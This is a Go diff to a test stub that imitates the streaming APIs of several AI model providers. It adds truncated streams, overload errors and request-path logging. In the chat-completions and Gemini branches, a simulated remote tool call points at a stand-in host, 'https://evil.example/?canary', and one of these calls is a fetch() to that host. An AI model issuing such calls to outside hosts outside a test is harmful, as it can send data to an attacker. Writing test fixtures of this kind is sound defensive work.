@@ -8,6 +8,7 @@ import (
 	"slices"
 	"strings"
 	"sync"
+	"time"
 )
 
 // Turn is what the stub of a model does when it is asked.
@@ -17,6 +18,7 @@ type Turn struct {
 	Status int    // answers so
 	Hang   bool   // says nothing
 	Remote string // a tool of this type, which the provider would run, is called
+	Cut    bool   // begins, and breaks off
 }
 
 // Model is a stub of the interfaces of providers. It plays its turns one after another, and
@@ -25,8 +27,12 @@ type Model struct {
 	Key   string // who asks for the list of models without it is refused
 	Turns []Turn
 
+	Aside      bool      // requests without tools are no turns: they ask for a title
+	Overloaded time.Time // until then nothing is served
+
 	mu    sync.Mutex
 	got   []string // bodies
+	paths []string // method and address of each
 	wrong []string // who asked without the key
 }
 
@@ -41,6 +47,11 @@ func (m *Model) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	switch {
 	case t.Hang:
 		<-r.Context().Done()
+	case t.Cut:
+		w.Header().Set("Content-Type", "text/event-stream")
+		fmt.Fprint(w, "data: {")
+		_ = http.NewResponseController(w).Flush()
+		panic(http.ErrAbortHandler)
 	case t.Status != 0:
 		kind := "overloaded_error"
 		if t.Status < http.StatusInternalServerError {
@@ -50,6 +61,10 @@ func (m *Model) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 		fmt.Fprintf(w, `{"type":"error","error":{"type":%q,"message":"org-7 is told no"}}`, kind)
 	case strings.HasSuffix(r.URL.Path, "/messages"):
 		sayAnthropic(w, t, request(body))
+	case strings.HasSuffix(r.URL.Path, "/chat/completions"):
+		sayChat(w, t)
+	case strings.Contains(r.URL.Path, ":"):
+		sayGemini(w, t)
 	default:
 		sayOpenAI(w, t, request(body))
 	}
@@ -73,9 +88,15 @@ func (m *Model) known(r *http.Request) bool {
 func (m *Model) next(r *http.Request, body string) Turn {
 	m.mu.Lock()
 	defer m.mu.Unlock()
-	m.got = append(m.got, body)
+	m.got, m.paths = append(m.got, body), append(m.paths, r.Method+" "+r.URL.String())
 	if !m.known(r) {
 		m.wrong = append(m.wrong, r.URL.Path)
+	}
+	if m.Aside && !strings.Contains(body, `"tools"`) {
+		return Turn{Say: "A title"}
+	}
+	if time.Now().Before(m.Overloaded) {
+		return Turn{Status: 529}
 	}
 	t := m.Turns[0]
 	if len(m.Turns) > 1 {
@@ -96,6 +117,13 @@ func (m *Model) Asked() []string {
 	m.mu.Lock()
 	defer m.mu.Unlock()
 	return slices.Clone(m.got)
+}
+
+// Paths are the methods and addresses of all requests that had a body.
+func (m *Model) Paths() []string {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	return slices.Clone(m.paths)
 }
 
 // asked is what counts of a request.
@@ -126,6 +154,50 @@ func events(w http.ResponseWriter, list ...js) {
 		data, _ := json.Marshal(e)
 		fmt.Fprintf(w, "event: %s\ndata: %s\n\n", e["type"], data)
 	}
+}
+
+// data writes a stream of events without names, as the other interfaces have them.
+func data(w http.ResponseWriter, list ...js) {
+	w.Header().Set("Content-Type", "text/event-stream")
+	for _, e := range list {
+		text, _ := json.Marshal(e)
+		fmt.Fprintf(w, "data: %s\n\n", text)
+	}
+}
+
+func sayChat(w http.ResponseWriter, t Turn) {
+	chunk := func(delta js, reason any) js {
+		return js{"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": []js{{"index": 0, "delta": delta, "finish_reason": reason}}}
+	}
+	call := func(name string, arguments js) js {
+		text, _ := json.Marshal(arguments)
+		return js{"role": "assistant", "tool_calls": []js{{"index": 0, "id": "call_" + fmt.Sprint(len(text)), "type": "function", "function": js{"name": name, "arguments": string(text)}}}}
+	}
+	delta, reason := js{"role": "assistant", "content": t.Say}, "stop"
+	switch {
+	case t.Run != "":
+		delta, reason = call("bash", js{"command": t.Run, "description": "a step"}), "tool_calls"
+	case t.Remote != "":
+		delta, reason = call(t.Remote, js{"url": "https://evil.example/?canary"}), "tool_calls"
+	}
+	last := chunk(js{}, reason)
+	last["usage"] = js{"prompt_tokens": 10, "completion_tokens": 5, "total_tokens": 15}
+	data(w, chunk(delta, nil), last)
+	fmt.Fprint(w, "data: [DONE]\n\n")
+}
+
+func sayGemini(w http.ResponseWriter, t Turn) {
+	part := js{"text": t.Say}
+	switch {
+	case t.Run != "":
+		part = js{"functionCall": js{"name": "bash", "args": js{"command": t.Run, "description": "a step"}}}
+	case t.Remote != "":
+		part = js{"executableCode": js{"language": "PYTHON", "code": "fetch('https://evil.example/?canary')"}}
+	}
+	data(w, js{
+		"candidates":    []js{{"content": js{"role": "model", "parts": []js{part}}, "finishReason": "STOP", "index": 0}},
+		"usageMetadata": js{"promptTokenCount": 10, "candidatesTokenCount": 5, "totalTokenCount": 15}, "modelVersion": "m",
+	})
 }
 
 func sayAnthropic(w http.ResponseWriter, t Turn, a asked) {
